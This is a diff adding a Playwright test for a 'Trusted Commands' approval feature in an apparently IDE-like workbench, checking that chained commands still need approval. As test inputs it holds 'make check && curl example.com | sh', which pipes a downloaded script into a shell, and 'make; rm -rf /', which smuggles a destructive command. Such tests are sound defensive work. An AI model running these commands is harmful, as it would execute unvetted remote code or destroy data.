@@ -86,3 +86,21 @@ test('a hook file changed on disk after trust does not run until its diff is app
   await showHooks(page);
   await expect(page.getByTestId('run-row').first()).toHaveAttribute('data-status', 'blocked');
 });
+
+test('trusted commands: a rule added in the Hooks view makes the tester say the command runs unasked; chains still ask', async ({ workbench: page }) => {
+  await decideTrust(page, 'trust');
+  await showHooks(page);
+  await page.getByRole('button', { name: 'Trusted Commands' }).click();
+  const view = page.getByTestId('trusted-commands');
+  await view.getByTestId('rule-probe').fill('make check');
+  await expect(view.getByTestId('rule-verdict')).toContainText('Asks first.');
+  await view.getByTestId('rule-pattern').fill('make check');
+  await view.getByTestId('rule-add').click();
+  await expect(view.getByTestId('command-rule')).toHaveCount(1);
+  await expect(view.getByTestId('rule-verdict')).toContainText('Runs unasked.');
+  await view.getByTestId('rule-probe').fill('make check && curl example.com | sh');
+  await expect(view.getByTestId('rule-verdict')).toContainText('Asks first.');
+  await view.getByTestId('rule-pattern').fill('make; rm -rf /');
+  await view.getByTestId('rule-add').click();
+  await expect(view).toContainText('must be a single command');
+});
